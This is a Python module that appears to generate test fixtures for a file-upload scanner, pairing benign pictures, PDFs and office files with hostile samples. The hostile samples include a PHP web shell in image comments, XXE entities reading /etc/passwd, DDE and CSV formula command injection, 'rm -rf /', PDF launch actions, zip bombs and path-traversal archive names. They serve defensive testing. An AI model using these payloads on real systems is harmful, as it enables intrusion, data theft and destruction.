"""Files people send, made in code: hostile ones, each breaking one rule, and honest ones of every kind.

`hostile()` and `honest()` yield (label, name, content); a label is `family: case`.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document", f"<w:document {W}><w:body>{{}}</w:body></w:document>"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet", f"<workbook {S}><sheets/>{{}}</workbook>"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation", f"<p:presentation {P}>{{}}</p:presentation>"),
}
ODF = {"odt": "text", "ods": "spreadsheet"}
SPACES = " ".join(
    f'xmlns:{key}="urn:oasis:names:tc:opendocument:xmlns:{key}:1.0"'
    for key in ("office", "text", "table", "draw", "script")
)


# Pictures


def picture(form="PNG", size=(8, 8), color=(200, 120, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, color).save(out, form, **options)
    return out.getvalue()


def png_chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_claiming(width, height, rows=b""):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(rows)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def with_png_text(text):
    whole = picture()
    return whole[:33] + png_chunk(b"tEXt", b"Comment\0" + text) + whole[33:]


def with_jpeg_comment(text):
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


# PDF


def pdf(pages=1, change=None, **save):
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(200, 200))
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **save)
        return out.getvalue()


def root(**entries):
    """A change that puts entries into the catalogue: `root(OpenAction={...})`."""

    def change(made):
        for key, value in entries.items():
            made.Root[f"/{key}"] = made.make_indirect(value) if isinstance(value, pikepdf.Dictionary) else value

    return change


def action(kind, **entries):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def annotation(subtype="Link", **entries):
    """A change that puts one annotation on the first page."""

    def change(made):
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{subtype}"), Rect=[0, 0, 50, 50], **entries
        )
        made.pages[0].obj["/Annots"] = pikepdf.Array([made.make_indirect(note)])

    return change


def link(target):
    return annotation(A=action("URI", URI=pikepdf.String(target)))


def attached(made):
    made.attachments["brief.exe"] = b"MZ"


def flate_bomb(made):
    packing = zlib.compressobj(9)
    raw = b"".join(packing.compress(b"\0" * 16_000_000) for _ in range(25)) + packing.flush()
    made.pages[0].obj["/Contents"] = raw_stream(made, raw, "FlateDecode")


def double_flate(made):
    made.pages[0].obj["/Contents"] = raw_stream(
        made, zlib.compress(zlib.compress(b"q Q")), "FlateDecode", "FlateDecode"
    )


def raw_stream(made, raw, *filters):
    stream = pikepdf.Stream(made, b"")
    names = [pikepdf.Name(f"/{name}") for name in filters]
    stream.write(raw, filter=pikepdf.Array(names) if len(names) > 1 else names[0])
    return stream


def written_pdf(more=b""):
    """A PDF written by hand, whose catalogue holds `more` to the letter."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + more + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return out + head + table + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def locked(user, owner):
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


# Office


def archive(parts, *, method=zipfile.ZIP_DEFLATED, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in parts:
            entry = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_STORED if entry.filename == "mimetype" else method
            made.writestr(entry, data)
        made.comment = comment
    return out.getvalue()


def ooxml_parts(kind="docx", body="", types="", rels="", main_type=None):
    path, name, frame = MAIN[kind]
    main_type = main_type or f"application/vnd.openxmlformats-officedocument.{name}.main+xml"
    return {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{path}" ContentType="{main_type}"/>{types}</Types>',
        "_rels/.rels": relations(f'<Relationship Id="r1" Type="{R}/officeDocument" Target="{path}"/>'),
        path: '<?xml version="1.0" encoding="UTF-8"?>' + frame.format(body),
        f"{path.rpartition('/')[0]}/_rels/{path.rpartition('/')[2]}.rels": relations(rels),
    }


def relations(inner):
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def ooxml(kind="docx", body="", more=(), types="", rels="", main_type=None, **how):
    parts = ooxml_parts(kind, body, types, rels, main_type)
    return archive([*parts.items(), *more], **how)


def relation(kind, target, mode="External"):
    return f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def odf(kind="odt", body="", more=(), head="", says=None, before=()):
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}<office:document-content {SPACES} '
        f'xmlns:xlink="http://www.w3.org/1999/xlink">{body}</office:document-content>'
    )
    says = says or f"application/vnd.oasis.opendocument.{ODF[kind]}"
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = [("mimetype", says), ("content.xml", content), ("META-INF/manifest.xml", manifest)]
    return archive([*before, *parts, *more])


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def locked_archive():
    """The first entry says that it needs a password."""
    whole = bytearray(ooxml())
    whole[6] |= 1
    place = whole.index(b"PK\x01\x02")
    whole[place + 8] |= 1
    return bytes(whole)


def symlink(name):
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


def behind_a_gap(whole, extra):
    """`extra` stands between the entries and their directory, whose end record knows of it."""
    end = whole.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    moved = whole[:start] + extra + whole[start:end] + whole[end : end + 16]
    return moved + struct.pack("<I", start + len(extra)) + whole[end + 20 :]


DTD = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>'
BIG = b"\0" * 60_000_000


def hostile():
    yield from hostile_pictures()
    yield from hostile_pdf()
    yield from hostile_ooxml()
    yield from hostile_odf()
    yield from hostile_archives()
    yield from hostile_texts()
    yield from hostile_names()
    yield from hostile_others()


def hostile_pictures():
    png, jpeg, webp = picture(), picture("JPEG"), picture("WEBP")
    zipped = archive([("x.js", "alert(1)")])
    for label, whole, name in (("png", png, "bild.png"), ("jpeg", jpeg, "bild.jpg"), ("webp", webp, "bild.webp")):
        yield f"{label} with more behind: zip", name, whole + zipped
        yield f"{label} with more behind: html", name, whole + SCRIPT
        yield f"{label} with more behind: program", name, whole + b"MZ\x90\0" * 40
        yield f"{label} with more behind: pdf", name, whole + pdf()
        yield f"{label} cut off: half", name, whole[: len(whole) // 2]
        yield f"{label} cut off: last bytes", name, whole[:-5]
        yield f"{label} head only: nothing", name, whole[:16]
    yield "picture with script: png comment", "bild.png", with_png_text(SCRIPT)
    yield "picture with php: png comment", "bild.png", with_png_text(b"<?php system($_GET[0]); ?>")
    yield "picture with script: jpeg comment", "bild.jpg", with_jpeg_comment(SCRIPT)
    yield "picture with php: jpeg comment", "bild.jpg", with_jpeg_comment(b"<?php echo 1; ?>")
    yield "picture with html: jpeg comment", "bild.jpg", with_jpeg_comment(b"<html><body onload=x()>")
    yield "picture and archive: jpeg comment", "bild.jpg", with_jpeg_comment(zipped)
    yield "huge picture: 60000 x 60000", "riesig.png", png_claiming(60_000, 60_000)
    yield "huge picture: 30000 x 2", "breit.png", png_claiming(30_000, 2)
    yield "huge picture: 9000 x 9000", "gross.png", png_claiming(9000, 9000, b"\0" * 9000)
    yield "huge picture: two billion wide", "riesig.png", png_claiming(2**31 - 1, 1)
    yield "broken picture: no rows", "leer.png", png_claiming(100, 100)
    yield "broken picture: wrong sum", "bild.png", png[:40] + b"\xff" + png[41:]
    frames = [Image.new("RGB", (8, 8), (shade, 0, 0)) for shade in (0, 255)]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])
    yield "moving picture: webp", "bild.webp", out.getvalue()


def hostile_pdf():
    def js():
        return action("JavaScript", JS=pikepdf.String("app.alert(1)"))

    yield "pdf with script: on opening", "a.pdf", pdf(change=root(OpenAction=js()))
    yield "pdf with script: in a link", "a.pdf", pdf(change=annotation(A=js()))
    yield (
        "pdf with script: by name",
        "a.pdf",
        pdf(change=root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("x"), js()])))),
    )
    yield "pdf with script: on closing", "a.pdf", pdf(change=root(AA=pikepdf.Dictionary(WC=js())))
    yield (
        "pdf with script: packed objects",
        "a.pdf",
        pdf(change=root(OpenAction=js()), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    yield (
        "pdf with script: next action",
        "a.pdf",
        pdf(change=annotation(A=action("URI", URI=pikepdf.String("https://example.org"), Next=js()))),
    )
    yield (
        "pdf with script: written in another way",
        "a.pdf",
        written_pdf(b"/OpenAction << /S /J#61vaScript /#4AS (app.alert\\(1\\)) >>"),
    )
    yield (
        "pdf that launches: on opening",
        "a.pdf",
        pdf(change=root(OpenAction=action("Launch", F=pikepdf.String("cmd.exe")))),
    )
    yield "pdf that launches: in a link", "a.pdf", pdf(change=annotation(A=action("Launch", F=pikepdf.String("x.exe"))))
    for kind in ("SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie", "Sound", "Hide"):
        yield f"pdf that acts: {kind}", "a.pdf", pdf(change=annotation(A=action(kind, F=pikepdf.String("x"))))
    for part in ("RichMedia", "Screen", "3D", "Movie"):
        yield f"pdf with media: {part}", "a.pdf", pdf(change=annotation(part))
    yield "pdf with attachment: list", "a.pdf", pdf(change=attached)
    yield (
        "pdf with attachment: note",
        "a.pdf",
        pdf(
            change=annotation(
                "FileAttachment", FS=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"))
            )
        ),
    )
    yield "pdf with attachment: collection", "a.pdf", pdf(change=root(Collection=pikepdf.Dictionary()))
    yield "pdf with attachment: associated", "a.pdf", pdf(change=root(AF=pikepdf.Array([pikepdf.Dictionary()])))
    for target in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "\\\\boese.example\\x",
        "data:text/html,x",
        "smb://boese.example/x",
    ):
        yield f"pdf that leads away: {target[:6]}", "a.pdf", pdf(change=link(target))
    yield (
        "pdf with form script: xfa",
        "a.pdf",
        pdf(change=root(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>")))),
    )
    yield "pdf with password: to open", "a.pdf", locked("geheim", "geheim")
    yield "pdf with password: to print", "a.pdf", locked("", "geheim")
    yield "pdf bomb: one stream", "a.pdf", pdf(change=flate_bomb, compress_streams=False)
    yield (
        "pdf bomb: packed twice",
        "a.pdf",
        pdf(change=double_flate, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none),
    )
    whole = pdf()
    yield "pdf with more behind: zip", "a.pdf", whole + archive([("x", "y")])
    yield "pdf with more behind: html", "a.pdf", whole + SCRIPT
    yield "pdf with more behind: program", "a.pdf", whole + b"MZ" * 2000
    yield "pdf with html before: comment", "a.pdf", whole[:9] + b"%" + SCRIPT + b"\n" + whole[9:]
    yield "pdf behind something: html", "a.pdf", b"<html>" + whole
    yield "pdf behind something: line", "a.pdf", b"\n\n" + whole
    yield "pdf cut off: half", "a.pdf", whole[: len(whole) // 2]
    yield "pdf cut off: end", "a.pdf", whole[: whole.rindex(b"startxref")]
    yield "pdf cut off: wrong place", "a.pdf", whole[: whole.rindex(b"startxref")] + b"startxref\n7\n%%EOF\n"
    yield "pdf head only: version", "a.pdf", b"%PDF-1.7\n%%EOF"
    yield "pdf without pages: none", "a.pdf", pdf(pages=0)
    yield "pdf from elsewhere: stream", "a.pdf", pdf(change=outside_stream)


def outside_stream(made):
    stream = made.make_stream(b"x")
    stream["/F"] = pikepdf.String("\\\\boese.example\\x")
    made.Root["/Probe"] = stream


def hostile_ooxml():
    vba = ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "office with macros: project", "a.docx", ooxml(more=[vba])
    yield "office with macros: other letters", "a.docx", ooxml(more=[("word/VBAPROJECT.BIN", b"x")])
    yield "office with macros: type", "a.docx", ooxml(main_type=macro_type)
    yield (
        "office with macros: default type",
        "a.docx",
        ooxml(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    )
    yield (
        "office with macros: relation",
        "a.xlsx",
        ooxml(
            "xlsx",
            rels='<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>',
        ),
    )
    yield "office with macros: excel 4", "a.xlsx", ooxml("xlsx", more=[("xl/macrosheets/sheet1.xml", "<x/>")])
    yield "office with macros: ribbon", "a.pptx", ooxml("pptx", more=[("customUI/customUI.xml", "<x/>")])
    yield "office with controls: activex", "a.docx", ooxml(more=[("word/activeX/activeX1.xml", "<x/>")])
    yield "office with objects: ole", "a.docx", ooxml(more=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")])
    yield "office with objects: hidden ole", "a.docx", ooxml(more=[("word/media/image1.png", b"\xd0\xcf\x11\xe0")])
    yield "office with objects: package", "a.pptx", ooxml("pptx", more=[("ppt/embeddings/x.xlsx", ooxml("xlsx"))])
    yield "office with objects: program", "a.xlsx", ooxml("xlsx", more=[("xl/media/image1.emf", b"MZ\x90")])
    yield "office with objects: page", "a.docx", ooxml(more=[("word/seite.html", SCRIPT)])
    yield (
        "office with objects: script in a picture",
        "a.docx",
        ooxml(more=[("word/media/i.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>')]),
    )
    yield (
        "office with objects: element",
        "a.docx",
        ooxml(body='<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/>'),
    )
    yield (
        "office with objects: chunk",
        "a.docx",
        ooxml(rels=f'<Relationship Id="r9" Type="{R}/aFChunk" Target="x.mht"/>'),
    )
    yield (
        "office from outside: template",
        "a.docx",
        ooxml(rels=relation("attachedTemplate", "https://boese.example/x.dotm")),
    )
    yield "office from outside: picture", "a.docx", ooxml(rels=relation("image", "https://boese.example/x.png"))
    yield "office from outside: object", "a.docx", ooxml(rels=relation("oleObject", "mhtml:https://boese.example/x!"))
    yield "office from outside: frame", "a.docx", ooxml(rels=relation("frame", "https://boese.example/"))
    yield "office from outside: network folder", "a.docx", ooxml(rels=relation("hyperlink", "\\\\boese.example\\x"))
    yield "office from outside: local file", "a.docx", ooxml(rels=relation("hyperlink", "file:///c:/x.exe"))
    yield "office from outside: script", "a.pptx", ooxml("pptx", rels=relation("hyperlink", "javascript:alert(1)"))
    yield "office from outside: protocol", "a.docx", ooxml(rels=relation("hyperlink", "ms-msdt:/id PCWDiagnostic"))
    yield (
        "office from outside: workbook",
        "a.xlsx",
        ooxml("xlsx", more=[("xl/externalLinks/externalLink1.xml", "<x/>")]),
    )
    yield "office from outside: connection", "a.xlsx", ooxml("xlsx", more=[("xl/connections.xml", "<x/>")])
    yield (
        "office with fields: dde",
        "a.docx",
        ooxml(body='<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r></w:p>'),
    )
    yield "office with fields: split dde", "a.docx", ooxml(body='<w:p><w:fldSimple w:instr=" DDE excel x "/></w:p>')
    yield (
        "office with fields: dde over two runs",
        "a.docx",
        ooxml(body="<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd x</w:instrText></w:r></w:p>"),
    )
    renamed = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    yield "office with fields: other prefix", "a.docx", ooxml(body=f"<q:instrText {renamed}>DDE cmd x</q:instrText>")
    yield (
        "office with fields: picture",
        "a.docx",
        ooxml(body='<w:p><w:r><w:instrText>INCLUDEPICTURE "https://boese.example/x"</w:instrText></w:r></w:p>'),
    )
    yield "office with formula: command", "a.xlsx", ooxml("xlsx", body="<c><f>cmd|'/c calc'!A0</f></c>")
    yield "office with formula: web", "a.xlsx", ooxml("xlsx", body='<c><f>WEBSERVICE("https://boese.example")</f></c>')
    for kind, path in (("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"), ("pptx", "ppt/presentation.xml")):
        parts = ooxml_parts(kind)
        parts[path] = parts[path].replace("?><", f"?>{DTD}<", 1)
        yield f"office with entities: {kind}", f"a.{kind}", archive(parts.items())
    parts = ooxml_parts()
    types = parts["[Content_Types].xml"].replace("?><", f"?>{LAUGHS}<", 1)
    yield "office with entities: laughs", "a.docx", archive((parts | {"[Content_Types].xml": types}).items())
    rels = parts["_rels/.rels"].replace("?><", f"?>{DTD}<", 1)
    yield "office with entities: relations", "a.docx", archive((parts | {"_rels/.rels": rels}).items())
    wide = parts["word/document.xml"].replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("?><", f"?>{DTD}<", 1)
    yield (
        "office with entities: utf-16",
        "a.docx",
        archive((parts | {"word/document.xml": wide.encode("utf-16")}).items()),
    )
    yield "broken office: no xml", "a.docx", archive((parts | {"word/document.xml": "<w:document"}).items())
    yield "broken office: deep", "a.docx", ooxml(body="<w:p>" * 900 + "</w:p>" * 900)
    yield "broken office: no main part", "a.docx", archive([("[Content_Types].xml", "<Types/>")])


def hostile_odf():
    yield "odf with macros: basic", "a.odt", odf(more=[("Basic/Standard/Module1.xml", "<x/>")])
    yield "odf with macros: scripts", "a.ods", odf("ods", more=[("Scripts/python/x.py", "import os")])
    yield (
        "odf with macros: event",
        "a.odt",
        odf(body='<script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/>'),
    )
    yield "odf from outside: script link", "a.odt", odf(body='<text:a xlink:href="javascript:x()">x</text:a>')
    yield "odf from outside: macro link", "a.odt", odf(body='<text:a xlink:href="macro:///x">x</text:a>')
    yield "odf from outside: picture", "a.odt", odf(body='<draw:image xlink:href="https://boese.example/x.png"/>')
    yield "odf from outside: local file", "a.odt", odf(body='<draw:image xlink:href="file:///etc/passwd"/>')
    yield "odf from outside: section", "a.odt", odf(body='<text:section-source xlink:href="https://boese.example/x"/>')
    yield "odf from outside: dde", "a.ods", odf("ods", body="<table:dde-link/>")
    yield (
        "odf with formula: dde",
        "a.ods",
        odf("ods", body='<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>'),
    )
    yield "odf with objects: ole", "a.odt", odf(body="<draw:object-ole/>")
    yield "odf with objects: data", "a.odt", odf(more=[("Object 1", b"\xd0\xcf\x11\xe0")])
    yield "odf with objects: applet", "a.odt", odf(body="<draw:applet/>")
    yield "odf with entities: file", "a.odt", odf(head=DTD)
    yield "odf with entities: laughs", "a.ods", odf("ods", head=LAUGHS)
    yield "odf of another kind: drawing", "a.odt", odf(says="application/vnd.oasis.opendocument.graphics")
    yield "odf of another kind: not first", "a.odt", odf(before=[("x.xml", "<x/>")])


def hostile_archives():
    for name in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x", "c:/x.xml", "word/../../x"):
        yield f"names in the archive: {name[:8]}", "a.docx", ooxml(more=[(name, "x")])
    yield "names in the archive: twice", "a.docx", ooxml(more=[("WORD/document.xml", "<x/>")])
    yield "names in the archive: link", "a.docx", ooxml(more=[(symlink("word/x"), "/etc/passwd")])
    yield "names in the archive: direction", "a.docx", ooxml(more=[("word/\u202egpj.x", "x")])
    yield "zip bomb: one part", "a.docx", ooxml(more=[("word/media/x.bin", BIG)])
    yield "zip bomb: xml", "a.xlsx", ooxml("xlsx", more=[("xl/x.xml", b"<x>" + b" " * 50_000_000 + b"</x>")])
    yield "zip bomb: many parts", "a.docx", ooxml(more=[(f"word/media/{n}.bin", b"\0" * 4_000_000) for n in range(60)])
    yield "zip bomb: too many entries", "a.docx", ooxml(more=[(f"word/{n}.xml", "<x/>") for n in range(3200)])
    yield "zip bomb: nested", "a.docx", ooxml(more=[("word/media/x.bin", archive([("y", BIG)]))])
    yield "zip with password: flag", "a.docx", locked_archive()
    yield "zip of another method: bzip2", "a.docx", ooxml(method=zipfile.ZIP_BZIP2)
    yield "zip of another method: lzma", "a.docx", ooxml(method=zipfile.ZIP_LZMA)
    yield "plain zip: as docx", "a.docx", archive([("x.txt", "x")])
    yield "plain zip: as odt", "a.odt", archive([("content.xml", "<x/>")])
    yield (
        "plain zip: jar",
        "a.docx",
        archive([("META-INF/MANIFEST.MF", "Main-Class: X"), ("X.class", b"\xca\xfe\xba\xbe")]),
    )
    whole = ooxml()
    yield "office with more behind: html", "a.docx", whole + SCRIPT
    yield "office with more behind: zip", "a.docx", whole + archive([("x", "y")])
    yield "office with more behind: comment", "a.docx", ooxml(comment=SCRIPT)
    yield "office with more between: gap", "a.docx", behind_a_gap(whole, SCRIPT * 3)
    yield "office behind something: text", "a.docx", b"#!/bin/sh\n" + whole
    yield "office cut off: half", "a.docx", whole[: len(whole) // 2]
    yield "office cut off: end", "a.docx", whole[:-10]


def hostile_texts():
    yield "html as text: page", "a.txt", b"<!doctype html><html><body>x</body></html>"
    yield "html as text: late script", "a.txt", b"Guten Tag,\n" * 200 + SCRIPT
    yield "html as text: handler", "a.txt", b"<img src=x onerror=alert(1)>"
    yield "html as text: frame", "a.csv", b"a;b\n<iframe src=//boese.example>;1\n"
    yield "svg as text: picture", "a.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield "code as text: php", "a.txt", b"<?php system('id');"
    yield "code as text: shell", "a.txt", b"#!/bin/sh\nrm -rf /\n"
    yield (
        "code as text: xml",
        "a.txt",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    )
    yield "code as text: postscript", "a.txt", b"%!PS-Adobe-3.0\n(x) run\n"
    yield "code as text: shortcut", "a.txt", b"[InternetShortcut]\nURL=file://boese.example/x\n"
    yield "no text: zero", "a.txt", b"Guten Tag\0\0"
    yield "no text: latin", "a.txt", "Gespräch über Ämter".encode("latin-1")
    yield "no text: utf-16", "a.csv", "a;b\n".encode("utf-16")
    yield "no text: escape", "a.txt", b"\x1b]0;x\x07"
    yield "no text: direction", "a.txt", "Rechnung \u202egpj.exe".encode()
    yield "no text: random", "a.txt", bytes(range(128, 256))
    for formula in (
        "=cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "+cmd|'/c calc'!A0",
        '=HYPERLINK("https://boese.example";"x")',
    ):
        yield f"csv with formula: {formula[:5]}", "a.csv", f"Name;Wert\nKita;{formula}\n".encode()


def hostile_names():
    png, page = picture(), pdf()
    yield "other extension: png as pdf", "a.pdf", png
    yield "other extension: pdf as png", "a.png", page
    yield "other extension: jpeg as png", "a.png", picture("JPEG")
    yield "other extension: xlsx as docx", "a.docx", ooxml("xlsx")
    yield "other extension: odt as docx", "a.docx", odf()
    yield "other extension: docx as odt", "a.odt", ooxml()
    yield "other extension: pdf as text", "a.txt", page
    yield "other extension: html as png", "a.png", SCRIPT
    yield "other extension: text as docx", "a.docx", b"Guten Tag"
    yield "double extension: exe last", "rechnung.pdf.exe", page
    yield "double extension: exe inside", "rechnung.exe.pdf", page
    yield "double extension: php inside", "bild.php.jpg", picture("JPEG")
    yield "double extension: html inside", "seite.html.txt", b"Guten Tag"
    yield "hidden letters: direction", "rechnung\u202efdp.exe", page
    yield "hidden letters: zero", "bild.exe\x00.png", png
    yield "hidden letters: line", "bild.exe\r\n.png", png
    yield "no extension: none", "rechnung", page
    yield "no extension: dot", ".pdf", page
    yield "no extension: htaccess", ".htaccess", b"AddType application/x-httpd-php .txt"
    yield "stranger's extension: macro", "a.docm", ooxml()
    yield "stranger's extension: svg", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    yield "stranger's extension: html", "a.html", b"<p>x</p>"
    yield "stranger's extension: path", "../../etc/x.sh", b"echo"
    yield "stranger's extension: zip", "a.zip", archive([("x", "y")])


def hostile_others():
    yield "empty: pdf", "a.pdf", b""
    yield "empty: text", "a.txt", b""
    yield "program: windows", "a.pdf", b"MZ\x90\x00" + b"\0" * 200
    yield "program: linux", "a.txt", b"\x7fELF" + b"\0" * 200
    yield "old office: ole", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    yield "rtf: document", "a.docx", b"{\\rtf1{\\object\\objdata 01}}"
    yield "gif: picture", "a.png", picture("GIF", mode="P", color=1)
    yield "packed: gzip", "a.txt", b"\x1f\x8b\x08\0" + b"\0" * 20
    yield "packed: rar", "a.docx", b"Rar!\x1a\x07\0"
    yield "too large: text", "a.txt", b"Guten Tag. " * 1_000_000
    yield "too large: picture", "a.png", picture() + b"\0" * 11_000_000


# Honest ones


def honest():
    yield from honest_pictures()
    yield from honest_pdf()
    yield from honest_office()
    yield from honest_texts()


def honest_pictures():
    for size in ((1, 1), (3, 700), (640, 480), (4000, 3000)):
        yield f"png {size}", f"bild-{size[0]}.png", picture(size=size)
    for mode, color in (("L", 3), ("P", 3), ("RGBA", (1, 2, 3, 4)), ("1", 1), ("LA", (1, 2)), ("I;16", 5)):
        yield f"png {mode}", "bild.png", picture(mode=mode, color=color)
    yield "png with text", "bild.png", with_png_text("Aufgenommen im Jugendamt".encode("latin-1"))
    for quality in (10, 95):
        yield f"jpeg {quality}", f"Foto {quality}.JPG", picture("JPEG", size=(800, 600), quality=quality)
    yield "jpeg progressive", "foto.jpeg", picture("JPEG", size=(300, 300), progressive=True)
    yield "jpeg grey", "foto.jpg", picture("JPEG", mode="L", color=90)
    yield "jpeg cmyk", "foto.jpg", picture("JPEG", mode="CMYK", color=(1, 2, 3, 4))
    yield "jpeg with comment", "foto.jpg", with_jpeg_comment(b"Kita am Park")
    yield "jpeg filled up", "foto.jpg", picture("JPEG") + b"\0" * 40
    exif = Image.Exif()
    exif[0x010E] = "Netzwerktreffen"
    yield "jpeg with exif", "foto.jpg", picture("JPEG", exif=exif)
    yield "webp", "bild.webp", picture("WEBP", size=(300, 200))
    yield "webp lossless", "bild.webp", picture("WEBP", lossless=True)


def honest_pdf():
    for pages in (1, 2, 60):
        yield f"pdf {pages}", f"Konzept {pages}.pdf", pdf(pages)
    yield "pdf packed", "Konzept.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "pdf linear", "Konzept.pdf", pdf(linearize=True)
    yield "pdf old", "Konzept.pdf", pdf(force_version="1.3")
    for target in ("https://www.lwl.org/", "mailto:amt@example.org", "http://example.org/a?b=c#d", "tel:+492511234"):
        yield f"pdf link {target[:5]}", "Einladung.pdf", pdf(change=link(target))
    yield (
        "pdf opens on a page",
        "Bericht.pdf",
        pdf(
            change=lambda made: made.Root.__setattr__(
                "OpenAction", pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
            )
        ),
    )
    yield (
        "pdf with title",
        "Bericht.pdf",
        pdf(change=lambda made: made.docinfo.__setattr__("Title", "Bericht über Ämter")),
    )
    yield "pdf with content", "Bericht.pdf", pdf(change=drawn)
    yield "pdf with outline", "Bericht.pdf", pdf(3, change=outlined)
    yield (
        "pdf with form field",
        "Antrag.pdf",
        pdf(change=root(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), DA=pikepdf.String("/Helv 0 Tf")))),
    )
    yield "pdf written by hand", "Bericht.pdf", written_pdf()
    yield "pdf with line ends", "Bericht.pdf", pdf() + b"\r\n\r\n"
    yield "pdf changed twice", "Bericht.PDF", pdf(2)
    for name in (
        "Übersicht der Ämter.pdf",
        "Protokoll 12.03.2026.pdf",
        "bericht.v2.final.pdf",
        "日本.pdf",
        "مرحبا.pdf",
        "a" * 200 + ".pdf",
    ):
        yield f"pdf named {name[:12]}", name, pdf()


def drawn(made):
    made.pages[0].obj["/Contents"] = made.make_stream(b"0 0 1 rg 10 10 100 100 re f\n" * 500)


def outlined(made):
    with made.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Kapitel 1", 0))


def honest_office():
    for kind in MAIN:
        yield kind, f"Vorlage.{kind}", ooxml(kind)
        yield f"{kind} stored", f"Vorlage.{kind}", ooxml(kind, method=zipfile.ZIP_STORED)
